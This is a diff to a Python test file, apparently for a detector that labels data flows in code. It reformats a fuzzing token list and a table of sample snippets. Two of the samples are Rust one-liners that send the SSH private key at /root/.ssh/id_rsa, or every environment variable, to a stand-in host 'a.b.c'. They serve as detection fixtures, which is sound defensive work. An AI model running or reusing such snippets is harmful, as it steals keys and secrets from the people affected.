@@ -81,7 +81,7 @@ SAID = [
      "code.flow network > execution"),
     ("x.rs", 'fn main() { let mut s = String::new(); File::open("/root/.ssh/id_rsa").unwrap().read_to_string(&mut s); TcpStream::connect("a.b.c:1").unwrap().write_all(s.as_bytes()); }',
      "code.flow file:/root/.ssh/id_rsa > network"),
-    ("x.rs", "fn main() { for (k, v) in std::env::vars() { ureq::post(\"https://a.b.c/d\").send_string(&v); } }",
+    ("x.rs", 'fn main() { for (k, v) in std::env::vars() { ureq::post("https://a.b.c/d").send_string(&v); } }',
      "code.flow env:* > network"),
 ]  # fmt: skip
 
@@ -146,9 +146,40 @@ def test_a_table_uses_known_words_only_and_names_each_thing_once(language: str) 
     data=st.binary(max_size=300),
     words=st.lists(
         st.sampled_from(
-            "( ) { } [ ] \" ' ; , . :: -> => = == << `x` eval system new fn def class $a @b 1 <?php | & # \n".split(
-                " "
-            )
+            [
+                "(",
+                ")",
+                "{",
+                "}",
+                "[",
+                "]",
+                '"',
+                "'",
+                ";",
+                ",",
+                ".",
+                "::",
+                "->",
+                "=>",
+                "=",
+                "==",
+                "<<",
+                "`x`",
+                "eval",
+                "system",
+                "new",
+                "fn",
+                "def",
+                "class",
+                "$a",
+                "@b",
+                "1",
+                "<?php",
+                "|",
+                "&",
+                "#",
+                "\n",
+            ]
         ),
         max_size=60,
     ),
